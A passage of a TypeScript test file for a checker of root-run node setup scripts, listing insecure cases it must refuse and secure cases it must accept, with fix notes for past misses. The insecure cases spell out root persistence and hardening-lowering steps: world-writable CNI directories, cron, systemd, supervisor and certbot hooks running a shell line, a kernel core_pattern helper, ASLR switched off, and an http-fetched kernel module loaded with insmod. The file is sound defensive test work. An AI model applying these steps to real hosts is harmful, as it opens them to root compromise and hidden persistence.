    // Was a MISS (fixed in round 86): (ARGV-COMMANDS-UNJUDGED) insecure accepted (got []). commandServers.ts literalCommandListeners (reached from pythonProgramListeners through pythonCode.ts pythonCommandRuns, os.system lines too) judges a Python program's literal commands only for listeners, crontab/at and cp/tee-like writes into nodeReadsAsConfig files; rootReads.ts's judgments of the same words as a shell line (loweredProtections and plantedKernelHelpers for sysctl, openedPaths for chmod/chown/setfacl, module loads, systemctl link of unread unit files) never run on them. Fix (class): hand each literal run to the shell script reader as the line it is (one command judgment), so argv and os.system commands are refused exactly when the same shell line is.
    dev(
        "tune.py: subprocess chmod 0777 /opt/cni/bin",
        tune("dev-py86-chmod-argv-cni-bin-rt86p", [
            "import subprocess",
            'subprocess.run(["chmod", "0777", "/opt/cni/bin"], check=True)',
        ]),
        REFUSED,
    ),
    // chown(1) -R through subprocess: /etc/cni/net.d handed to uid 1000.
    // Was a MISS (fixed in round 86): (ARGV-COMMANDS-UNJUDGED) insecure accepted (got []). commandServers.ts literalCommandListeners (reached from pythonProgramListeners through pythonCode.ts pythonCommandRuns, os.system lines too) judges a Python program's literal commands only for listeners, crontab/at and cp/tee-like writes into nodeReadsAsConfig files; rootReads.ts's judgments of the same words as a shell line (loweredProtections and plantedKernelHelpers for sysctl, openedPaths for chmod/chown/setfacl, module loads, systemctl link of unread unit files) never run on them. Fix (class): hand each literal run to the shell script reader as the line it is (one command judgment), so argv and os.system commands are refused exactly when the same shell line is.
    dev(
        "tune.py: subprocess chown -R 1000:1000 /etc/cni/net.d",
        tune("dev-py86-chown-argv-cni-netd-rt86p", [
            "import subprocess",
            'subprocess.run(["chown", "-R", "1000:1000", "/etc/cni/net.d"], check=True)',
        ]),
        REFUSED,
    ),
    // acpid(8) with only the parent made (`mkdir -p /etc/acpi`, as the acpid package lays it out): the program then
    // makes events/ and the rule.
    // Was a MISS (fixed in round 86): (READER-DIRS-BY-NAME) insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: under /etc an own name (programOwnNames) or a made directory (madeForProgram, which tests only the first level: `mkdir -p /etc/acpi` makes /etc/acpi/events data too) still makes a directory data unless ROOT_READER_DIRECTORIES, a denylist of reader names, lists it; request-key.d, acpi and supervisor are not listed (nor in PROGRAM_DATA_PATHS' exclusions). Fix (class): what round 83's comment says: under /etc no directory is a program's data (FHS 3.0 /etc is host configuration), whatever its name or who made it; under /run and /var/lib an allowlist of directories known to be read by no root reader, failing closed on the rest.
    // Round 86 fix: not the blanket rule (no /etc directory is data): three committed secure cases write their program's own /etc/<name>/FILE (dev-py80-etc-ops-own-fix81, dev-py82-etc-stem-json-fix82, dev-py82-etc-app-json-rt82p). pythonCode.ts etcReaderLayout: an own name or mkdir vouches only for files directly in /etc/<name>, never below a subdirectory (acpi/events) nor in a NAME.d drop-in directory (request-key.d); ROOT_READER_DIRECTORIES now names acpi, request-key.d, supervisor.
    dev(
        "mkdir -p /etc/acpi; tune.py writes /etc/acpi/events/ops (action=)",
        tune(
            "dev-py86-mkdir-acpi-parent-rt86p",
            writes("/etc/acpi/events/ops", `event=.*\naction=/bin/sh -c '${SHELL_LINE}'\n`),
            [],
            ["mkdir -p /etc/acpi"],
        ),
        REFUSED,
    ),
    // supervisord docs "Configuration File": without -c it uses the first of ... /etc/supervisord.conf,
    // /etc/supervisor/supervisord.conf; [program:x] command= runs as root (supervisord started as root).
    // Was a MISS (fixed in round 86): (READER-DIRS-BY-NAME) insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: under /etc an own name (programOwnNames) or a made directory (madeForProgram, which tests only the first level: `mkdir -p /etc/acpi` makes /etc/acpi/events data too) still makes a directory data unless ROOT_READER_DIRECTORIES, a denylist of reader names, lists it; request-key.d, acpi and supervisor are not listed (nor in PROGRAM_DATA_PATHS' exclusions). Fix (class): what round 83's comment says: under /etc no directory is a program's data (FHS 3.0 /etc is host configuration), whatever its name or who made it; under /run and /var/lib an allowlist of directories known to be read by no root reader, failing closed on the rest.
    // Round 86 fix: not the blanket rule (no /etc directory is data): three committed secure cases write their program's own /etc/<name>/FILE (dev-py80-etc-ops-own-fix81, dev-py82-etc-stem-json-fix82, dev-py82-etc-app-json-rt82p). pythonCode.ts etcReaderLayout: an own name or mkdir vouches only for files directly in /etc/<name>, never below a subdirectory (acpi/events) nor in a NAME.d drop-in directory (request-key.d); ROOT_READER_DIRECTORIES now names acpi, request-key.d, supervisor.
    dev(
        "mkdir -p /etc/supervisor; tune.py writes supervisord.conf ([program] command=); supervisord",
        tune(
            "dev-py86-mkdir-supervisor-rt86p",
            writes(
                "/etc/supervisor/supervisord.conf",
                `[supervisord]\n[program:ops]\ncommand=/bin/sh -c '${SHELL_LINE}'\n`,
            ),
            ["supervisord"],
            ["mkdir -p /etc/supervisor"],
        ),
        REFUSED,
    ),
    // Fluent Bit docs "Exec" input: "This plugin invokes commands using a shell"; td-agent-bit (the Treasure Data
    // package of Fluent Bit, /etc/td-agent-bit/td-agent-bit.conf) runs as root.
    dev(
        "mkdir -p /etc/td-agent-bit; tune.py writes td-agent-bit.conf ([INPUT] exec); restart",
        tune(
            "dev-py86-mkdir-td-agent-bit-rt86p",
            writes(
                "/etc/td-agent-bit/td-agent-bit.conf",
                `[INPUT]\n    Name exec\n    Command ${SHELL_LINE}\n[OUTPUT]\n    Name null\n    Match *\n`,
            ),
            ["systemctl restart td-agent-bit"],
            ["mkdir -p /etc/td-agent-bit"],
        ),
        REFUSED,
    ),
    // request-key.conf(5), the program named after the reader's key type directory (/opt/request-key/gen.py: own
    // name "request-key"; the directory is request-key.d): held or not, the name differs.
    // Was a MISS (fixed in round 86): (READER-DIRS-BY-NAME) insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: under /etc an own name (programOwnNames) or a made directory (madeForProgram, which tests only the first level: `mkdir -p /etc/acpi` makes /etc/acpi/events data too) still makes a directory data unless ROOT_READER_DIRECTORIES, a denylist of reader names, lists it; request-key.d, acpi and supervisor are not listed (nor in PROGRAM_DATA_PATHS' exclusions). Fix (class): what round 83's comment says: under /etc no directory is a program's data (FHS 3.0 /etc is host configuration), whatever its name or who made it; under /run and /var/lib an allowlist of directories known to be read by no root reader, failing closed on the rest.
    // Round 86 fix: not the blanket rule (no /etc directory is data): three committed secure cases write their program's own /etc/<name>/FILE (dev-py80-etc-ops-own-fix81, dev-py82-etc-stem-json-fix82, dev-py82-etc-app-json-rt82p). pythonCode.ts etcReaderLayout: an own name or mkdir vouches only for files directly in /etc/<name>, never below a subdirectory (acpi/events) nor in a NAME.d drop-in directory (request-key.d); ROOT_READER_DIRECTORIES now names acpi, request-key.d, supervisor.
    dev(
        "/opt/request-key.d/gen.py writes /etc/request-key.d/ops.conf",
        prog(
            "dev-py86-owner-dir-request-key-rt86p",
            "/opt/request-key.d/gen.py",
            writes("/etc/request-key.d/ops.conf", "create user ops:* * /var/lib/ops/handler %k\n"),
        ),
        REFUSED,
    ),
    // ===== I. batch 3: root writes and loads of a Python program's literal argv (literalCommandListeners) =====
    // core(5): kernel.core_pattern "|prog" set through subprocess sysctl -w (KERNEL_HELPERS by argv).
    // Was a MISS (fixed in round 86): (ARGV-COMMANDS-UNJUDGED) insecure accepted (got []). commandServers.ts literalCommandListeners (reached from pythonProgramListeners through pythonCode.ts pythonCommandRuns, os.system lines too) judges a Python program's literal commands only for listeners, crontab/at and cp/tee-like writes into nodeReadsAsConfig files; rootReads.ts's judgments of the same words as a shell line (loweredProtections and plantedKernelHelpers for sysctl, openedPaths for chmod/chown/setfacl, module loads, systemctl link of unread unit files) never run on them. Fix (class): hand each literal run to the shell script reader as the line it is (one command judgment), so argv and os.system commands are refused exactly when the same shell line is.
    dev(
        "tune.py: subprocess sysctl -w kernel.core_pattern=|/var/lib/ops/dump",
        tune("dev-py86-core-pattern-argv-rt86p", [
            "import subprocess",
            'subprocess.run(["sysctl", "-w", "kernel.core_pattern=|/var/lib/ops/dump %p"], check=True)',
        ]),
        REFUSED,
    ),
    // cp(1) through argv: the program's data copied into /etc/cron.d (crontab(5)).
    dev(
        "tune.py writes job; subprocess cp it /etc/cron.d/ops",
        tune("dev-py86-cp-argv-cron-rt86p", [
            ...writes("/var/lib/ops/job", CRON_LINE + "\n"),
            "import subprocess",
            'subprocess.run(["cp", "/var/lib/ops/job", "/etc/cron.d/ops"], check=True)',
        ]),
        REFUSED,
    ),
    // ln(1) -s through argv: crond reads the link's target (crontab(5) files in /etc/cron.d).
    dev(
        "tune.py writes job; subprocess ln -s it /etc/cron.d/ops",
        tune("dev-py86-ln-argv-cron-rt86p", [
            ...writes("/var/lib/ops/job", CRON_LINE + "\n"),
            "import subprocess",
            'subprocess.run(["ln", "-sf", "/var/lib/ops/job", "/etc/cron.d/ops"], check=True)',
        ]),
        REFUSED,
    ),
    // crontab(1) FILE: "install a new crontab from some named file": root's crontab is the program's file.
    dev(
        "tune.py writes tab; subprocess crontab it",
        tune("dev-py86-crontab-argv-rt86p", [
            ...writes("/var/lib/ops/tab", `* * * * * ${SHELL_LINE}\n`),
            "import subprocess",
            'subprocess.run(["crontab", "/var/lib/ops/tab"], check=True)',
        ]),
        REFUSED,
    ),
    // systemctl(1) link: "Link a unit file that is not in the unit file search path into the unit file search path".
    // Was a MISS (fixed in round 86): (ARGV-COMMANDS-UNJUDGED) insecure accepted (got []). commandServers.ts literalCommandListeners (reached from pythonProgramListeners through pythonCode.ts pythonCommandRuns, os.system lines too) judges a Python program's literal commands only for listeners, crontab/at and cp/tee-like writes into nodeReadsAsConfig files; rootReads.ts's judgments of the same words as a shell line (loweredProtections and plantedKernelHelpers for sysctl, openedPaths for chmod/chown/setfacl, module loads, systemctl link of unread unit files) never run on them. Fix (class): hand each literal run to the shell script reader as the line it is (one command judgment), so argv and os.system commands are refused exactly when the same shell line is.
    dev(
        "tune.py writes ops.service; subprocess systemctl link + start",
        tune("dev-py86-systemctl-link-argv-rt86p", [
            ...writes("/var/lib/ops/ops.service", `[Service]\nExecStart=/bin/sh -c '${SHELL_LINE}'\n`),
            "import subprocess",
            'subprocess.run(["systemctl", "link", "/var/lib/ops/ops.service"], check=True)',
            'subprocess.run(["systemctl", "start", "ops.service"], check=True)',
        ]),
        REFUSED,
    ),
    // os.system(command) runs it by /bin/sh (os docs): chmod 777 of /opt/cni/bin as a shell line.
    // Was a MISS (fixed in round 86): (ARGV-COMMANDS-UNJUDGED) insecure accepted (got []). commandServers.ts literalCommandListeners (reached from pythonProgramListeners through pythonCode.ts pythonCommandRuns, os.system lines too) judges a Python program's literal commands only for listeners, crontab/at and cp/tee-like writes into nodeReadsAsConfig files; rootReads.ts's judgments of the same words as a shell line (loweredProtections and plantedKernelHelpers for sysctl, openedPaths for chmod/chown/setfacl, module loads, systemctl link of unread unit files) never run on them. Fix (class): hand each literal run to the shell script reader as the line it is (one command judgment), so argv and os.system commands are refused exactly when the same shell line is.
    dev(
        "tune.py: os.system('chmod 777 /opt/cni/bin')",
        tune("dev-py86-os-system-chmod-rt86p", ["import os", 'os.system("chmod 777 /opt/cni/bin")']),
        REFUSED,
    ),
    // os.system: sysctl -w fs.suid_dumpable=1 as a shell line.
    // Was a MISS (fixed in round 86): (ARGV-COMMANDS-UNJUDGED) insecure accepted (got []). commandServers.ts literalCommandListeners (reached from pythonProgramListeners through pythonCode.ts pythonCommandRuns, os.system lines too) judges a Python program's literal commands only for listeners, crontab/at and cp/tee-like writes into nodeReadsAsConfig files; rootReads.ts's judgments of the same words as a shell line (loweredProtections and plantedKernelHelpers for sysctl, openedPaths for chmod/chown/setfacl, module loads, systemctl link of unread unit files) never run on them. Fix (class): hand each literal run to the shell script reader as the line it is (one command judgment), so argv and os.system commands are refused exactly when the same shell line is.
    dev(
        "tune.py: os.system('sysctl -w fs.suid_dumpable=1')",
        tune("dev-py86-os-system-sysctl-rt86p", ["import os", 'os.system("sysctl -w fs.suid_dumpable=1")']),
        REFUSED,
    ),
    // ===== fix86: neighbours of the round-86 fixes =====
    // ARGV-COMMANDS-UNJUDGED: chmod(1) -R o+w of systemd's unit directory through argv (systemd.unit(5) "Unit File Load
    // Path": root's manager loads what any user then writes there), read as the same shell line (openedPaths).
    dev(
        "tune.py: subprocess chmod -R o+w /etc/systemd/system",
        tune("dev-py86-chmod-argv-units-fix86", [
            "import subprocess",
            'subprocess.run(["chmod", "-R", "o+w", "/etc/systemd/system"], check=True)',
        ]),
        REFUSED,
    ),
    // ARGV-COMMANDS-UNJUDGED: shlex-free str.split of a literal (round 75's argv) setting kernel.kptr_restrict=0
    // (admin-guide sysctl/kernel.rst: 0 shows kernel addresses to every user), a KERNEL_PROTECTIONS lowering.
    dev(
        "tune.py: subprocess.run('sysctl -w kernel.kptr_restrict=0'.split())",
        tune("dev-py86-split-sysctl-kptr-fix86", [
            "import subprocess",
            'subprocess.run("sysctl -w kernel.kptr_restrict=0".split(), check=True)',
        ]),
        REFUSED,
    ),
    // KERNEL-PROTECTIONS-PY-WRITE: pathlib write_text of 0 to kernel.randomize_va_space (admin-guide sysctl/kernel.rst:
    // "0 - Turn the process address space randomization off").
    dev(
        "tune.py: Path('/proc/sys/kernel/randomize_va_space').write_text('0')",
        tune("dev-py86-aslr-off-pathlib-fix86", [
            "from pathlib import Path",
            'Path("/proc/sys/kernel/randomize_va_space").write_text("0")',
        ]),
        REFUSED,
    ),
    // KERNEL-PROTECTIONS-PY-WRITE: the same table through a sysctl.d file the program writes (sysctl.d(5), applied at
    // every boot): fs.protected_hardlinks=0.
    dev(
        "tune.py writes fs.protected_hardlinks=0 to /etc/sysctl.d/99-ops.conf",
        tune("dev-py86-sysctld-hardlinks-fix86", writes("/etc/sysctl.d/99-ops.conf", "fs.protected_hardlinks = 0\n")),
        REFUSED,
    ),
    // READER-DIRS-BY-NAME: certbot docs "Renewing certificates": executable files in
    // /etc/letsencrypt/renewal-hooks/deploy are run (as root, by certbot's timer) after each renewal; made by mkdir.
    dev(
        "mkdir -p /etc/letsencrypt/renewal-hooks/deploy; tune.py writes a hook",
        tune(
            "dev-py86-mkdir-certbot-hooks-fix86",
            writes("/etc/letsencrypt/renewal-hooks/deploy/ops", `#!/bin/sh\n${SHELL_LINE}\n`),
            [],
            ["mkdir -p /etc/letsencrypt/renewal-hooks/deploy"],
        ),
        REFUSED,
    ),
    // READER-DIRS-BY-NAME: a program named after its reader (/opt/logwatch/gen.py: own name "logwatch"); logwatch(8)
    // runs the service filter scripts of /etc/logwatch/scripts/services as root from cron.
    dev(
        "/opt/logwatch/gen.py writes /etc/logwatch/scripts/services/ops",
        prog(
            "dev-py86-owner-dir-logwatch-fix86",
            "/opt/logwatch/gen.py",
            writes("/etc/logwatch/scripts/services/ops", `#!/bin/sh\n${SHELL_LINE}\n`),
        ),
        REFUSED,
    ),
    // PY-STDOUT-FILE-UNREAD: stdout= a file opened for appending in /etc/profile.d (sourced by root's login shells): the
    // program's own open() is a write of that path, refused there.
    dev(
        "tune.py: subprocess.run(['echo', line], stdout=open('/etc/profile.d/ops.sh','a'))",
        tune("dev-py86-stdout-append-profile-fix86", [
            "import subprocess",
            `subprocess.run(["echo", ${JSON.stringify(SHELL_LINE)}], stdout=open("/etc/profile.d/ops.sh", "a"))`,
        ]),
        REFUSED,
    ),
    // PIP-PROXY-OPTION: --proxy keeps the index what it is; an http:// index (no TLS: whoever is on the path serves
    // the wheels) stays untrusted by its own rule.
    dev(
        "pip3 install --proxy http://proxy.ops.internal:3128 -i http://pypi.ops.internal/simple tenacity; import",
        thenImport("dev-py86-proxy-http-index-fix86", [
            "pip3 install --proxy http://proxy.ops.internal:3128 -i http://pypi.ops.internal/simple tenacity",
        ]),
        REFUSED,
    ),
    // The same through the shell itself (round 85's class, for comparison): held.
    dev(
        "user data: sysctl -w fs.suid_dumpable=1 (shell)",
        sh("dev-py86-shell-sysctl-suid-rt86p", ["sysctl -w fs.suid_dumpable=1"]),
        REFUSED,
    ),
    // ===== Round 87 fix neighbours (PY-CHMOD-MODE-UNREAD): a mode or owner change judged as the shell's line =====
    // pathlib docs Path.chmod(mode): 0o777 on containerd's CNI bin_dir (containerd docs/cri/config.md: every plugin
    // there runs as root), the shell's `chmod 777 /opt/cni/bin` (rootReads.ts modeChangeOpens); was accepted.
    dev(
        "tune.py: Path('/opt/cni/bin').chmod(0o777)",
        tune("dev-py87-pathlib-chmod-cni-bin-777-fix87", [
            "from pathlib import Path",
            'Path("/opt/cni/bin").chmod(0o777)',
        ]),
        REFUSED,
    ),
    // os docs fchmod(fd, mode): the descriptor's file, which the pack does not follow (fail closed whatever the mode).
    dev(
        "tune.py: fd = os.open('/opt/cni/bin'); os.fchmod(fd, 0o777)",
        tune("dev-py87-fchmod-cni-bin-fix87", [
            "import os",
            'fd = os.open("/opt/cni/bin", os.O_RDONLY)',
            "os.fchmod(fd, 0o777)",
        ]),
        REFUSED,
    ),
    // shutil docs chown(path, user=None, group=None): the CNI configuration directory handed to ec2-user
    // (path_resolution(7): a directory's owner may create any file in it).
    dev(
        "tune.py: shutil.chown('/etc/cni/net.d', user='ec2-user')",
        tune("dev-py87-shutil-chown-netd-fix87", ["import shutil", 'shutil.chown("/etc/cni/net.d", user="ec2-user")']),
        REFUSED,
    ),
    // os docs chmod(path, mode): a mode the pack cannot read (a parameter) may be 0o777 (fail closed).
    dev(
        "tune.py: os.chmod('/opt/cni/bin', int(sys.argv[1], 8))",
        tune("dev-py87-chmod-unread-mode-fix87", ["import os, sys", 'os.chmod("/opt/cni/bin", int(sys.argv[1], 8))']),
        REFUSED,
    ),
    // urllib.request docs urlretrieve(url, filename): a module fetched over plain http (no server verified), then
    // insmod(8): read as the shell's `curl -o F http://...; insmod F` (rootReads.ts unverifiedDownloads); was accepted.
    dev(
        "tune.py: urlretrieve http://.../ops.ko; subprocess insmod it",
        tune("dev-py87-insmod-http-fix87", [
            "import subprocess, urllib.request",
            'urllib.request.urlretrieve("http://ops.example/ops.ko", "/var/cache/ops/ops.ko")',
            'subprocess.run(["insmod", "/var/cache/ops/ops.ko"], check=True)',
        ]),
        REFUSED,
    ),
];

const secure: NodeCase[] = [
    // proc(5) /proc/sys/fs/suid_dumpable 0 is the default and safest; kernel protections written to their safe value.
    dev(
        "tune.py writes 0 to /proc/sys/fs/suid_dumpable",
        tune("dev-py86-suid-dumpable-zero-rt86p", [
            'with open("/proc/sys/fs/suid_dumpable", "w") as f:',
            '    f.write("0")',
        ]),
    ),
    // perf_event_open(2): 3 (the AL2023 default is 2) is stricter.
    dev(
        "tune.py: sysctl -w kernel.perf_event_paranoid=3",
        tune("dev-py86-perf-paranoid-3-rt86p", [
            "import subprocess",
            'subprocess.run(["sysctl", "-w", "kernel.perf_event_paranoid=3"], check=True)',
        ]),
    ),
    // chmod(2) 0o755 is the CNI directory's usual mode (owner root writes, others read and run).
    // Was a MISS (fixed in round 87): (PY-CHMOD-MODE-UNREAD) secure refused ("it writes /opt/cni/bin, which the node may read as configuration or code"). pythonCode.ts pythonWriteTargetRefusal gets os.chmod/os.chown as writes of their path (any mode): a Python mode change is never read for what it grants, so a restoring 0o755 is refused like 0o777 (and 0o777 is refused only as a 'write'). Fix (class): read os.chmod/Path.chmod/os.chown/shutil.chown as the shell's chmod/chown are (rootReads.ts openedPaths: a literal mode without group/other write, owner root, opens nothing), fail closed on a computed mode.
    // Still open (round 86): not done in time. The fix needs os.chmod/os.lchmod/Path.chmod/os.chown/shutil.chown with literal path and mode/owner taken out of pythonWriteRefusal's write targets (the generic imported-call rule and the pathlib method rule) and handed to the shell reader as `chmod MODE PATH` / `chown U:G PATH` lines (commandServers.ts pythonProgramCommandLines, as round 86's argv), so openedPaths judges them; a computed mode stays a write (fail closed).
    dev(
        "tune.py: os.chmod('/opt/cni/bin', 0o755)",
        tune("dev-py86-chmod-cni-bin-755-rt86p", ["import os", 'os.chmod("/opt/cni/bin", 0o755)']),
    ),
    // logging to /var/log/ops (FHS "Log files"), read by nothing as code.
    dev(
        "tune.py: logging.basicConfig(filename='/var/log/ops/tune.log')",
        tune("dev-py86-logging-var-log-rt86p", [
            "import logging",
            'logging.basicConfig(filename="/var/log/ops/tune.log", level=logging.INFO)',
            'logging.info("tuned")',
        ]),
    ),
    // ast docs literal_eval: "Safely evaluate ... strings, bytes, numbers, tuples, lists, dicts, sets, booleans,
    // None" (no code).
    dev(
        "tune.py: ast.literal_eval(urlopen(...).read().decode())",
        tune("dev-py86-literal-eval-url-rt86p", [
            "import ast, json, urllib.request",
            'cfg = ast.literal_eval(urllib.request.urlopen("https://ops.example/cfg").read().decode())',
            'json.dump(cfg, open("/var/lib/ops/cfg.json", "w"))',
        ]),
    ),
    // json docs: json.loads makes dicts, lists, strings, numbers (data only).
    dev(
        "tune.py: json.loads(urlopen(...).read()) into /var/lib/ops",
        tune("dev-py86-json-loads-url-rt86p", [
            "import json, urllib.request",
            'cfg = json.loads(urllib.request.urlopen("https://ops.example/cfg.json").read())',
            'json.dump(cfg, open("/var/lib/ops/cfg.json", "w"))',
        ]),
    ),
    // subprocess docs: stdout "an existing file object": echo's output into /var/log/ops (FHS "Log files"), data.
    // Was a MISS (fixed in round 86): (PY-STDOUT-FILE-UNREAD) secure refused ("/opt/ops/tune.py runs commands the pack does not read"). pythonCode.ts pythonCommandRuns fails closed on any stdout=/stderr= file object, so a harmless command logging into /var/log is refused. Fix (class): read stdout=open(PATH, 'w'|'a') as a write of PATH with unknown content (judged by pythonWriteTargetRefusal, as `> PATH` is for the shell), not as an unread command.
    dev(
        "tune.py: subprocess.run(['echo', x], stdout=open('/var/log/ops/out','w'))",
        tune("dev-py86-subprocess-stdout-log-rt86p", [
            "import subprocess",
            'subprocess.run(["echo", "ok"], stdout=open("/var/log/ops/out", "w"))',
        ]),
        /./,
    ),
    // os.path.join to the program's own state directory /var/lib/tune (FHS "/var/lib/<name>").
    dev(
        "tune.py: open(os.path.join('/var/lib', 'tune', 'state.json'), 'w')",
        tune("dev-py86-pathjoin-own-state-rt86p", [
            "import os",
            'os.makedirs("/var/lib/tune", exist_ok=True)',
            'with open(os.path.join("/var/lib", "tune", "state.json"), "w") as f:',
            '    f.write("{}")',
        ]),
    ),
    // pip docs "pip install" --proxy: "Specify a proxy in the form scheme://[user:passwd@]proxy.server:port"; an
    // https index is tunnelled by CONNECT and its certificate still verified end to end (same index, same trust).
    // Was a MISS (fixed in round 86): (PIP-PROXY-OPTION) secure refused ("imports tenacity, a module user data did not write and the pack does not know"). pipOptions.ts classifies --proxy as a "source" option, yet HTTPS_PROXY for the same pip run (dev-py86-https-proxy-env-pip-rt86p) keeps trust: pip's https index is reached through a CONNECT tunnel and its certificate verified end to end whatever the proxy. Fix (class): classify --proxy (and PIP_PROXY, global.proxy) as "none" like the proxy variables, so the option, the variable and the pip.conf key read alike; an http:// index stays untrusted by its own rule.
    dev(
        "pip3 install --proxy http://proxy.ops.internal:3128 tenacity; import",
        thenImport("dev-py86-pip-proxy-rt86p", ["pip3 install --proxy http://proxy.ops.internal:3128 tenacity"]),
        /./,
    ),
    // pip docs "pip install" --no-deps: "Don't install package dependencies" (fewer files, same index).
    dev(
        "pip3 install --no-deps tenacity; import",
        thenImport("dev-py86-pip-no-deps-rt86p", ["pip3 install --no-deps tenacity"]),
    ),
    // tempfile docs mkstemp(dir=...) in the program's own cache directory.
    dev(
        "tune.py: tempfile.mkstemp(dir='/var/cache/ops')",
        tune("dev-py86-mkstemp-cache-rt86p", [
            "import os, tempfile",
            'fd, p = tempfile.mkstemp(dir="/var/cache/ops")',
            'os.write(fd, b"ok")',
        ]),
    ),
    // zipfile docs ZipFile.extractall: absolute member names are stripped and ".." components removed ("all \"..\"
    // components in a member filename will be removed"), and zipfile makes no symbolic links: every member lands
    // below /var/lib/ops/data, the program's own data directory.
    dev(
        "tune.py: zipfile.ZipFile(data.zip).extractall(/var/lib/ops/data)",
        tune("dev-py86-zip-extractall-own-rt86p", [
            "import zipfile",
            'zipfile.ZipFile("/var/cache/ops/data.zip").extractall("/var/lib/ops/data")',
        ]),
    ),
    // ===== batch 2 =====
    // Linux admin-guide sysctl/fs protected_symlinks 1 (the AL2023 default), written by Python: a protection kept.
    dev(
        "tune.py writes 1 to /proc/sys/fs/protected_symlinks",
        tune("dev-py86-protected-symlinks-one-rt86p", [
            'with open("/proc/sys/fs/protected_symlinks", "w") as f:',
            '    f.write("1")',
        ]),
    ),
    // PyYAML docs yaml.safe_load: "recognizes only standard YAML tags and cannot construct an arbitrary Python
    // object" (PyYAML is cloud-init's, installed on AL2023).
    dev(
        "tune.py: yaml.safe_load(urlopen(...)) into /var/lib/ops",
        tune("dev-py86-yaml-safe-load-url-rt86p", [
            "import json, urllib.request, yaml",
            'cfg = yaml.safe_load(urllib.request.urlopen("https://ops.example/cfg.yaml").read())',
            'json.dump(cfg, open("/var/lib/ops/cfg.json", "w"))',
        ]),
    ),
    // pickle docs: pickle.dump only writes (the warning is about loading); its own state file.
    dev(
        "tune.py: pickle.dump(state, open('/var/lib/ops/state.pkl','wb'))",
        tune("dev-py86-pickle-dump-own-rt86p", [
            "import pickle",
            'pickle.dump({"n": 1}, open("/var/lib/ops/state.pkl", "wb"))',
        ]),
    ),
    // logging.config docs dictConfig(config): a literal dict in the program itself (user data's own code), writing
    // /var/log/ops.
    dev(
        "tune.py: logging.config.dictConfig(literal dict) to /var/log/ops",
        tune("dev-py86-dictconfig-literal-rt86p", [
            "import logging, logging.config",
            "logging.config.dictConfig({",
            '    "version": 1,',
            '    "handlers": {"f": {"class": "logging.FileHandler", "filename": "/var/log/ops/tune.log"}},',
            '    "root": {"handlers": ["f"], "level": "INFO"},',
            "})",
            'logging.info("tuned")',
        ]),
    ),
    // chmod(2) 0o644 of the program's own report in /var/lib/ops (read by nothing as code).
    dev(
        "tune.py writes report; os.chmod(it, 0o644)",
        tune("dev-py86-chmod-own-report-rt86p", [
            ...writes("/var/lib/ops/report.txt", "ok"),
            'os.chmod("/var/lib/ops/report.txt", 0o644)',
        ]),
    ),
    // pip docs "User Guide", "Using a Proxy Server": pip reaches its index through a proxy given by --proxy, the
    // configuration's proxy, or the standard http_proxy/https_proxy variables; an https index through a CONNECT proxy
    // keeps its certificate check (same index, same trust).
    dev(
        "HTTPS_PROXY=http://proxy.ops.internal:3128 pip3 install tenacity; import",
        thenImport("dev-py86-https-proxy-env-pip-rt86p", [
            "HTTPS_PROXY=http://proxy.ops.internal:3128 pip3 install tenacity",
        ]),
    ),
    // cp(1) through argv of a report into /var/log/ops (data into data).
    dev(
        "tune.py writes report; subprocess cp it /var/log/ops/",
        tune("dev-py86-cp-argv-log-rt86p", [
            ...writes("/var/lib/ops/report.txt", "ok"),
            "import subprocess",
            'subprocess.run(["cp", "/var/lib/ops/report.txt", "/var/log/ops/report.txt"], check=True)',
        ]),
    ),
    // ===== fix86: secure neighbours =====
    // sysctl(8) through argv of a setting that is no protection nor helper (vm.max_map_count, as Elasticsearch's docs
    // ask): the same line in user data is clean.
    dev(
        "tune.py: subprocess sysctl -w vm.max_map_count=262144",
        tune("dev-py86-sysctl-argv-harmless-fix86", [
            "import subprocess",
            'subprocess.run(["sysctl", "-w", "vm.max_map_count=262144"], check=True)',
        ]),
    ),
    // os.system of sysctl keeping a protection (fs.protected_symlinks=1, the AL2023 default).
    dev(
        "tune.py: os.system('sysctl -w fs.protected_symlinks=1')",
        tune("dev-py86-os-system-protect-fix86", ["import os", 'os.system("sysctl -w fs.protected_symlinks=1")']),
    ),
    // admin-guide sysctl/kernel.rst perf_event_paranoid 3 (above the floor of 2), written by Python.
    dev(
        "tune.py writes 3 to /proc/sys/kernel/perf_event_paranoid",
        tune("dev-py86-perf-paranoid-raise-fix86", [
            'with open("/proc/sys/kernel/perf_event_paranoid", "w") as f:',
            '    f.write("3")',
        ]),
    ),
    // FHS 3.0 /run/<app> "Run-time variable data": the program's own pid file under the directory named after it.
    dev(
        "mkdir -p /run/ops; tune.py writes /run/ops/tune.pid",
        tune("dev-py86-run-own-pid-fix86", writes("/run/ops/tune.pid", "1\n"), [], ["mkdir -p /run/ops"]),
    ),
    // subprocess docs stderr= a file object: a command's errors appended to the program's own log in /var/log.
    dev(
        "tune.py: subprocess.run(['true'], stderr=open('/var/log/ops/err.log','a'))",
        tune("dev-py86-stderr-log-fix86", [
            "import subprocess",
            'subprocess.run(["true"], stderr=open("/var/log/ops/err.log", "a"), check=True)',
        ]),
    ),
    // pip docs "Configuration": the config key is the long option name (`pip config set global.proxy URL`), read as
    // --proxy is.
    dev(
        "pip3 config set global.proxy http://proxy.ops.internal:3128; pip3 install tenacity; import",
        thenImport("dev-py86-pip-config-proxy-fix86", [
            "pip3 config set global.proxy http://proxy.ops.internal:3128",
            "pip3 install tenacity",
        ]),
    ),
    // ===== Round 87 fix neighbours (PY-CHMOD-MODE-UNREAD), secure: root's own modes and owners =====
    // pathlib docs Path.chmod: 0o755 restores the CNI directory's usual mode (the shell's `chmod 755`).
    dev(
        "tune.py: Path('/opt/cni/bin').chmod(0o755)",
        tune("dev-py87-pathlib-chmod-755-fix87", ["from pathlib import Path", 'Path("/opt/cni/bin").chmod(0o755)']),
    ),
    // os docs chown(path, uid, gid), shutil docs chown(path, user, group): root's ids and names (CIS EKS 3.1.x
    // root:root ownership), then 0o755.
    dev(
        "tune.py: os.chown('/etc/cni/net.d', 0, 0); shutil.chown('/opt/cni/bin', 'root', 'root'); os.chmod 0o755",
        tune("dev-py87-chown-root-fix87", [
            "import os, shutil",
            'os.chown("/etc/cni/net.d", 0, 0)',
            'shutil.chown("/opt/cni/bin", "root", "root")',
            'os.chmod("/etc/cni/net.d", 0o755)',
        ]),
    ),
    // os docs chmod: its own log directory 0o750 (FHS "Log files"), no write for others.
    dev(
        "tune.py: os.chmod('/var/log/ops', 0o750)",
